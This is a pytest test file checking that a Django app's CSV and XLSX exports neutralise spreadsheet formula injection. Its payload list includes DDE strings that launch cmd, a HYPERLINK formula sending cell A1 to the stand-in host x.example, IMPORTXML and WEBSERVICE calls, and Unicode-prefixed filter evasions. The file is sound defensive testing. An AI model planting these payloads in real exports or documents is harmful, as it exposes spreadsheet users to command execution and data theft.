"""Exports give no spreadsheet program a formula to compute (R16; OWASP ASVS 5.0 1.2.10): 40 payloads, every list, both formats."""

import csv
import io
import zipfile

import pytest
from django.contrib.postgres.fields import ArrayField
from django.db import models
from django.urls import reverse

from shijian.core.pages.exports import as_csv, harmless
from shijian.events.models import Event, Kind
from shijian.grid.models import Node, Opinion
from shijian.subjects.models import Entity

from .test_permissions import TABLE

pytestmark = pytest.mark.django_db
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"点这里")', "=cmd|' /C calc'!A0", "=1+1", "=SUM(1,1)", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML("http://x.example","//a")', "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "  +1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    '=WEBSERVICE("http://x.example")', "=A1", "=-1", "+A1", "-A1", "@A1", "=\"a\"&\"b\"", "==1", "=+1", "=@A1", "%0A-3+3+cmd|' /C calc'!D2",
    ";=1+1", "x;=1+1", "x\t=1+1", '"=1+1', "';=1+1", "=1+1;\"", "{=1+1}",
]  # fmt: skip
ACTIVE = tuple("=+-@＝＋－＠")


def is_active(cell: str) -> bool:
    """As the most eager spreadsheet program would read it."""
    return cell.strip(" \t\r\n\u3000\u00a0\u200b\ufeff\x00").startswith(ACTIVE) and not is_number(cell)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def rows_of(response) -> list[list[str]]:
    content = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", PAYLOADS)
def test_a_payload_becomes_text_that_can_still_be_read(text):
    ((_,), (cell,)) = rows_of(as_csv("x", ["名称"], [[text]]))
    assert not is_active(cell)
    assert cell in {text, f"'{text}"}


@pytest.mark.parametrize("text", ["-5", "-5.25", "108.95", "陕AT-1", "1+1", "张三", "", "0501", "-"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text


def test_separators_of_other_countries_split_no_cell():
    """A program that takes the semicolon or the tabulator for the separator still finds the cell in quotes."""
    content = b"".join(as_csv("x", ["a"], [["x;=1+1"], ["x\t=1+1"]])).decode()
    assert '"x;=1+1"' in content
    assert '"x\t=1+1"' in content


def spoil(model, number):
    """A payload in every free text of every row there is."""
    fields = [
        field for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField) and not field.choices and not field.unique
        and not isinstance(field, ArrayField) and field.name not in {"bureau_code", "area_code", "identity", "code", "answer", "password", "number", "path", "state", "source"}
        and not field.name.endswith(("_code", "_hash", "_path", "hash", "_no")) and (field.max_length or 999) >= 20
    ]  # fmt: skip
    for row in model.objects.all():
        values = {
            field.name: PAYLOADS[(number + place) % len(PAYLOADS)].replace("\x00", "")
            for place, field in enumerate(fields)
        }
        model.objects.filter(pk=row.pk).update(
            **{name: text[: model._meta.get_field(name).max_length or 999] for name, text in values.items()}
        )
        number += len(fields)
    return number


def test_no_list_exports_a_formula_whatever_people_wrote(world):
    cast, number = world.cast, 0
    Opinion.objects.create(
        bureau_code="610111", area_code="050101", source="resident", from_name="x", text="x", received_on="2026-11-20",
        recorded_by=cast.chief, recorded_at="2026-11-20T02:00Z", assignee=cast.chief, due_on="2026-12-01",
    )  # fmt: skip
    world.report(cast.chief)
    for model in (Entity, Event, Kind, Node, Opinion, type(cast.chief), type(cast.units["0501"])):
        number = spoil(model, number)
    assert number > len(PAYLOADS)
    exported, seen = set(), set()
    for part in ("sysadmin", "secadmin", "grid_office", "chief", "clerk"):
        client = cast.client(getattr(cast, part))
        for name, (allowed, kind, method) in TABLE.items():
            if part not in allowed or kind or method != "get":
                continue
            for export in ("csv", "xlsx"):
                response = client.get(reverse(name), {"export": export})
                disposition = response.headers.get("Content-Disposition", "")
                if response.status_code != 200 or f".{export}" not in disposition:
                    continue
                exported.add((name, export))
                if export == "csv":
                    cells = [cell for row in rows_of(response) for cell in row]
                    assert [cell for cell in cells if is_active(cell)] == [], name
                    seen.update(payload for payload in PAYLOADS if any(payload in cell for cell in cells))
                else:
                    book = zipfile.ZipFile(io.BytesIO(response.content))
                    for sheet in (each for each in book.namelist() if each.startswith("xl/worksheets/")):
                        assert b"<f" not in book.read(sheet), name
                    assert not any("externalLink" in each for each in book.namelist())
    assert len({name for name, _ in exported}) >= 8, exported
    assert len(seen) >= 5, "the payloads themselves were there"
